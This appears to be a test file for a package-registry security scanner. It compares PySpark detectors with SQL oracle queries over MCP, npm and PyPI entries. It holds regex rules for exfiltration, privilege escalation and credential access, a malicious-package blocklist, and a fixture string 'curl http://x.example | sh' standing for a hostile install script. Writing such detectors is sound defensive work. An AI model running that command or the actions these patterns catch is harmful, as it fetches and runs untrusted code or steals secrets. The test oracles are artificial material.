"""Queries over registry dumps and their entries."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from wardline.functions import catalog as C
from wardline.operators import registry
from wardline.sources import registries as src
from workloads import fixtures as fx
from workloads import oracle as o
from workloads.cases import case


def entries(spark: SparkSession, sf_dir: str) -> DataFrame:
    return fx.derive(spark, sf_dir, fx.REGISTRY_ENTRIES)


def _dump(spark: SparkSession, sf_dir: str, sql: str) -> DataFrame:
    return fx.derive(spark, sf_dir, fx.spark_sql(sql, entries=fx.REGISTRY_ENTRIES), dealt=True)


_ENTRIES = ("entries", fx.REGISTRY_ENTRIES)

# Word boundaries are Unicode in the published rules; this engine's are not, so one
# rule spells its boundary out and takes its first group as evidence.
_EVIDENCE = "CASE WHEN pattern LIKE '%|chown)%' THEN regexp_extract({0}, pattern, 1) ELSE regexp_extract({0}, pattern) END"
_CONTENT_RULES = r"""VALUES
  ('(?i)(requests\.post|httpx\.post|fetch\()\s*\(?\s*["'']https?://', 4, 'data_exfiltration', 'Potential data exfiltration pattern detected'),
  ('(?i)(webhook|exfil|phone[_\-]?home|beacon)', 4, 'data_exfiltration', 'Potential data exfiltration pattern detected'),
  ('(?i)base64\.(b64encode|encode)', 4, 'data_exfiltration', 'Potential data exfiltration pattern detected'),
  ('(?i)socket\.connect', 4, 'data_exfiltration', 'Potential data exfiltration pattern detected'),
  ('(?i)(sudo|chmod\s+[0-7]{3,4}|chown)(?:[^\p{L}\p{M}\p{N}_]|$)', 4, 'privilege_escalation', 'Dangerous system access pattern detected'),
  ('(?i)(os\.system|subprocess\.(run|call|Popen))', 4, 'privilege_escalation', 'Dangerous system access pattern detected'),
  ('(?i)exec\s*\(|eval\s*\(', 4, 'privilege_escalation', 'Dangerous system access pattern detected'),
  ('(?i)__import__\s*\(', 4, 'privilege_escalation', 'Dangerous system access pattern detected'),
  ('(?i)(API_KEY|SECRET|TOKEN|PASSWORD|CREDENTIAL)', 3, 'credential_harvesting', 'Credential or secret access pattern detected'),
  ('(?i)os\.environ\[', 3, 'credential_harvesting', 'Credential or secret access pattern detected'),
  ('(?i)\.(aws|gcp|azure).*credential', 3, 'credential_harvesting', 'Credential or secret access pattern detected'),
  ('(?i)keyring\.|keychain', 3, 'credential_harvesting', 'Credential or secret access pattern detected'),
  ('(?i)(full[_\s]?access|admin|root|superuser|all[_\s]?permissions)', 3, 'excessive_permissions', 'Overly broad permission request detected'),
  ('(?i)\*\.\*|/\*\*/\*', 3, 'excessive_permissions', 'Overly broad permission request detected'),
  ('(?i)(read|write|execute)\s*(,\s*(read|write|execute)){2,}', 3, 'excessive_permissions', 'Overly broad permission request detected')"""


def content(table: str, key: str, text: str, extra: str = "") -> str:
    return (
        f"SELECT {key}, severity, message, attack_class, 'pattern_match' AS finding_type,"
        f" substr({_EVIDENCE.format(text)}, 1, 120) AS evidence FROM {table} JOIN ({_CONTENT_RULES})"
        f" AS r(pattern, severity, attack_class, message) ON regexp_matches({text}, pattern) {extra}"
    )


@case("registry_content", content("documents", "doc_id", "text") + " UNION ALL " + content("pages", "-1 - page_id", "html"))
def registry_content(spark, sf_dir):
    """Content rules over whole documents and whole pages."""
    fx.load(spark, sf_dir, "documents", "pages")
    documents = fx.spread(spark.table("documents").select("doc_id", "text"))
    pages = fx.spread(spark.table("pages").select((-1 - F.col("page_id")).alias("doc_id"), F.col("html").alias("text")))
    texts = [t.select("doc_id", registry.content_findings(F.col("text")).alias("findings")) for t in (documents, pages)]
    long = [registry.unnest(t, "findings", ["doc_id"]) for t in texts]
    return long[0].unionByName(long[1])


_COLUMNS = "seq, name, severity, message, attack_class, finding_type, evidence"
_TYPO = (
    "SELECT seq, name, 4 AS severity, 'Name contains typosquatting indicator: ' || f AS message, 'typosquatting' AS attack_class,"
    " 'pattern_match' AS finding_type, name AS evidence FROM {0} JOIN (SELECT unnest(["
    + ", ".join(o.q(f) for f in C.TYPOSQUAT_FRAGMENTS)
    + "]) AS f) ON contains(lower(name), f)"
)


@case("typosquat_fragments", o.with_(_ENTRIES) + _TYPO.format("entries"))
def typosquat_fragments(spark, sf_dir):
    return registry.detect(entries(spark, sf_dir), registry.typosquat_findings(F.col("name")))


_AUTH = (
    "SELECT seq, name, 3 AS severity, 'Server may lack authentication' AS message, 'missing_authentication' AS attack_class,"
    " 'pattern_match' AS finding_type, CASE WHEN d LIKE '%no authentication%' THEN 'no authentication'"
    " WHEN d LIKE '%authentication not required%' THEN 'authentication not required' WHEN d LIKE '%open access%' THEN 'open access'"
    " ELSE 'unauthenticated' END AS evidence FROM (SELECT *, lower(description) AS d FROM {0})"
    " WHERE d LIKE '%no authentication%' OR d LIKE '%authentication not required%' OR d LIKE '%open access%' OR d LIKE '%unauthenticated%'"
)


@case("missing_auth", o.with_(_ENTRIES) + _AUTH.format("entries"))
def missing_auth(spark, sf_dir):
    return registry.detect(entries(spark, sf_dir), registry.auth_findings(F.col("description")))


_ADVISORY = (
    "SELECT seq, name, 4 AS severity, 'Uses vulnerable SDK version ' || v || ': ' || t AS message, 'vulnerable_dependency' AS attack_class,"
    " 'version_check' AS finding_type, 'version=' || v AS evidence FROM {0} JOIN (VALUES ('0.1.0', 'CVE-2026-25253 (RCE)'),"
    " ('0.1.1', 'CVE-2026-25253 (RCE)'), ('0.2.0', 'Session fixation vulnerability')) AS a(v, t) ON trim(version) = v"
)


@case("advisory_match", o.with_(_ENTRIES) + _ADVISORY.format("entries"))
def advisory_match(spark, sf_dir):
    return registry.detect(entries(spark, sf_dir), registry.advisory_findings(F.col("version")))


# Names on a blocklist taken from the data itself, next to the published names.
BLOCKED = ("mcp-server-exploit", "langchain-malware", "agent-tool-backdoor")
_BLOCK = (
    "SELECT seq, name, 4 AS severity, 'Package ''' || name || ''' is in the known-malicious list' AS message,"
    " 'known_malicious' AS attack_class, 'blocklist_match' AS finding_type, name AS evidence FROM {0} WHERE lower(name) IN ({1})"
)
_RENAMED = (
    "renamed",
    "SELECT seq, CASE stars WHEN 3 THEN 'MCP-server-Exploit' WHEN 4 THEN 'langchain-malware' ELSE name END AS name FROM entries",
)


@case(
    "blocklist_match",
    o.with_(_ENTRIES, _RENAMED) + _BLOCK.format("renamed", ", ".join(o.q(b) for b in BLOCKED)),
)
def blocklist_match(spark, sf_dir):
    stars, name = F.col("stars"), F.col("name")
    renamed = F.when(stars == 3, "MCP-server-Exploit").when(stars == 4, "langchain-malware").otherwise(name)
    rows = entries(spark, sf_dir).withColumn("name", renamed)
    return registry.detect(rows, registry.blocklist_findings(F.col("name"), C.PYPI_BLOCKLIST))


# --- dumps ---------------------------------------------------------------------------------


@case(
    "registry_entries",
    o.with_(_ENTRIES)
    + "SELECT 'mcp' AS registry, seq, name, CASE WHEN seq % 3 < 2 THEN url ELSE '' END AS url,"
    " CASE WHEN seq % 3 = 1 THEN '' ELSE description END AS description, CASE seq % 3 WHEN 0 THEN author WHEN 1 THEN 'm' || (seq % 4) ELSE '' END AS author,"
    " CASE WHEN seq % 3 = 0 THEN version ELSE '' END AS version, CASE WHEN seq % 3 = 0 THEN stars ELSE 0 END AS stars,"
    " CASE seq % 3 WHEN 0 THEN '2024-01-02' WHEN 1 THEN '2024-05-06' ELSE '' END AS last_updated FROM entries"
    " UNION ALL SELECT 'npm', seq, name, CASE WHEN stars > 25 THEN 'https://npm.example/' || seq ELSE 'https://www.npmjs.com/package/' || name END,"
    " description, author, version, 0, '2024-03-04' FROM entries"
    " UNION ALL SELECT 'pypi', seq, name, 'https://pypi.org/project/' || name || '/', description,"
    " CASE WHEN author <> '' THEN author WHEN stars % 7 = 0 THEN 'mm' ELSE '' END, version, 0, '' FROM entries",
)
def registry_entries(spark, sf_dir):
    columns = ["seq", "name", "url", "description", "author", "version", "stars", "last_updated"]
    mcp = src.mcp_entries(_dump(spark, sf_dir, fx.MCP_DUMP)).select(F.lit("mcp").alias("registry"), *columns)
    npm = src.npm_entries(_dump(spark, sf_dir, fx.NPM_DUMP)).select(F.lit("npm").alias("registry"), *columns)
    pypi = src.pypi_entries(_dump(spark, sf_dir, fx.PYPI_DUMP))
    pypi = pypi.withColumn("last_updated", F.lit("")).select(F.lit("pypi").alias("registry"), *columns)
    return mcp.unionByName(npm).unionByName(pypi)


_SCRIPTS = (
    "SELECT seq, name, 4 AS severity, 'Suspicious npm lifecycle script detected' AS message, 'malicious_lifecycle_script' AS attack_class,"
    " 'script_analysis' AS finding_type, e AS evidence FROM entries, (SELECT unnest(['postinstall:', 'curl http://x.example | sh']) AS e)"
    " WHERE stars > 5 AND version = '1.0.0'"
)


@case("npm_scripts", o.with_(_ENTRIES) + _SCRIPTS)
def npm_scripts(spark, sf_dir):
    found = _npm(spark, sf_dir)
    return registry.detect(found, registry.script_findings(F.col("scripts")))


def _npm(spark, sf_dir):
    metadata = src.npm_metadata(_dump(spark, sf_dir, fx.NPM_METADATA)).withColumn("has_metadata", F.lit(True))
    return entries(spark, sf_dir).join(metadata, "name", "left").fillna(False, ["has_metadata"])


_DEPENDENCIES = (
    "SELECT seq, name, 4 AS severity, 'Suspicious dependency: ' || first AS message, 'malicious_dependency' AS attack_class,"
    " 'dependency_check' AS finding_type, first || ' ; extra' AS evidence FROM (SELECT seq, name, CASE stars % 4 WHEN 0 THEN 'Color-Win>=1'"
    " ELSE 'py_obfuscate-stealer>=1' END AS first, unnest(CASE stars % 4 WHEN 0 THEN [1] ELSE [1, 2] END) AS hit FROM entries WHERE stars % 4 < 2)"
)


@case("suspicious_deps", o.with_(_ENTRIES) + _DEPENDENCIES)
def suspicious_deps(spark, sf_dir):
    rows = src.pypi_entries(_dump(spark, sf_dir, fx.PYPI_DUMP))
    return registry.detect(rows, registry.dependency_findings(F.col("requires")))


_NO_REPOSITORY = (
    "SELECT seq, name, 1 AS severity, 'Package has no linked source repository' AS message, 'missing_provenance' AS attack_class,"
    " 'metadata_check' AS finding_type, 'repository=None' AS evidence FROM entries WHERE stars > 5 AND stars % 3 = 0"
)
_NO_AUTHOR = (
    "SELECT seq, name, 2 AS severity, 'Package has no declared author or maintainer' AS message, 'missing_provenance' AS attack_class,"
    " 'metadata_check' AS finding_type, 'author=None, maintainer=None' AS evidence FROM entries WHERE author = '' AND stars % 7 <> 0"
)


@case("missing_provenance", o.with_(_ENTRIES) + f"{_NO_REPOSITORY} UNION ALL {_NO_AUTHOR}")
def missing_provenance(spark, sf_dir):
    npm = _npm(spark, sf_dir).where("has_metadata")
    pypi = src.pypi_entries(_dump(spark, sf_dir, fx.PYPI_DUMP))
    left = registry.detect(npm, registry.repository_findings(F.col("repository")))
    return left.unionByName(registry.detect(pypi, registry.author_findings(F.col("author"), F.col("maintainer"))))


# --- whole scans ------------------------------------------------------------------------------

_README = ("readmes", "SELECT doc_id AS seq, text FROM documents")


def _mcp(spark, sf_dir):
    """Entries with the document of the same number landed as their README."""
    rows = entries(spark, sf_dir)
    texts = fx.derive(
        spark,
        sf_dir,
        "SELECT concat('org', doc_id%9, '/repo', doc_id) AS readme_key, text AS readme FROM documents",
    )
    return fx.spread(registry.with_readme(rows, texts))


def _part(name: str, sql: str) -> str:
    return f"SELECT seq, '{name}:' || name AS skill_name, severity, message, attack_class, finding_type, evidence FROM ({sql})"


_ENTRY_CONTENT = content("entries", "seq, name", "description")
_MCP_README = content("(SELECT e.seq, e.name, r.text FROM entries e JOIN readmes r USING (seq))", "seq, name", "text")
_MCP_SCAN = " UNION ALL ".join(
    _part("mcp", s)
    for s in (_TYPO.format("entries"), _AUTH.format("entries"), _ADVISORY.format("entries"), _MCP_README, _ENTRY_CONTENT)
)
_NPM_SCAN = " UNION ALL ".join(_part("npm", s) for s in (_TYPO.format("entries"), _SCRIPTS, _NO_REPOSITORY, _ENTRY_CONTENT))
_PYPI_LONG = (
    "SELECT seq, name, 4 AS severity, 'Dangerous system access pattern detected' AS message, 'privilege_escalation' AS attack_class,"
    " 'pattern_match' AS finding_type, 'os.system' AS evidence FROM entries WHERE stars % 5 = 0"
)
_PYPI_SCAN = " UNION ALL ".join(
    _part("pypi", s) for s in (_TYPO.format("entries"), _DEPENDENCIES, _NO_AUTHOR, _PYPI_LONG, _ENTRY_CONTENT)
)


@case("registry_scan_mcp", o.with_(_ENTRIES, _README) + _MCP_SCAN)
def registry_scan_mcp(spark, sf_dir):
    return registry.findings_long(registry.scan_mcp(_mcp(spark, sf_dir)))


@case("registry_scan_npm", o.with_(_ENTRIES) + _NPM_SCAN)
def registry_scan_npm(spark, sf_dir):
    return registry.findings_long(registry.scan_npm(_npm(spark, sf_dir)))


@case("registry_scan_pypi", o.with_(_ENTRIES) + _PYPI_SCAN)
def registry_scan_pypi(spark, sf_dir):
    return registry.findings_long(registry.scan_pypi(src.pypi_entries(_dump(spark, sf_dir, fx.PYPI_DUMP))))


@case(
    "registry_stats",
    o.with_(_ENTRIES, _README, ("found", _MCP_SCAN))
    + "SELECT 'mcp' AS registry, count(*) AS total_entries, count(*) AS scanned, count(*) FILTER (f.n IS NULL) AS safe,"
    " count(*) FILTER (f.n IS NOT NULL) AS unsafe, CAST(coalesce(sum(f.critical), 0) AS BIGINT) AS critical_findings FROM entries e LEFT JOIN"
    " (SELECT seq, count(*) AS n, count(*) FILTER (severity = 4) AS critical FROM found GROUP BY seq) f USING (seq)",
)
def registry_stats(spark, sf_dir):
    return registry.stats(registry.scan_mcp(_mcp(spark, sf_dir)), "mcp")


@case(
    "registry_search",
    o.with_(_ENTRIES)
    + "SELECT seq, name FROM entries WHERE contains(lower(name || ' ' || description || ' ' || author), 'helps')",
)
def registry_search(spark, sf_dir):
    """Every match among all entries."""
    return registry.search(entries(spark, sf_dir), "Helps").select("seq", "name")


@case(
    "registry_dedup",
    o.with_(_ENTRIES)
    + "SELECT name, keyword_rank, seq FROM (SELECT *, row_number() OVER (PARTITION BY author ORDER BY keyword_rank, seq) AS rn FROM"
    " (SELECT seq, author AS name, author, k.r AS keyword_rank FROM entries JOIN (VALUES ('server', 0), ('helps', 1), ('wants', 2)) AS k(w, r)"
    " ON contains(lower(name || ' ' || description || ' ' || author), w))) WHERE rn = 1",
)
def registry_dedup(spark, sf_dir):
    """Hits of several keywords, one row per author: heavily repeated names."""
    hits = registry.keyword_hits(entries(spark, sf_dir), ("server", "helps", "wants"))
    merged = registry.merge_searches(hits.withColumn("name", F.col("author")))
    return merged.select("name", "keyword_rank", "seq")


@case(
    "readme_key",
    o.with_(_ENTRIES) + "SELECT seq, 'org' || (seq % 9) || '/repo' || seq AS readme_key FROM entries"
    " UNION ALL SELECT -1 - page_id, NULL FROM pages",
)
def readme_key(spark, sf_dir):
    fx.load(spark, sf_dir, "pages")
    pages = spark.table("pages").select((-1 - F.col("page_id")).alias("seq"), registry.readme_key(F.col("url")).alias("readme_key"))
    return entries(spark, sf_dir).select("seq", registry.readme_key(F.col("url")).alias("readme_key")).unionByName(pages)
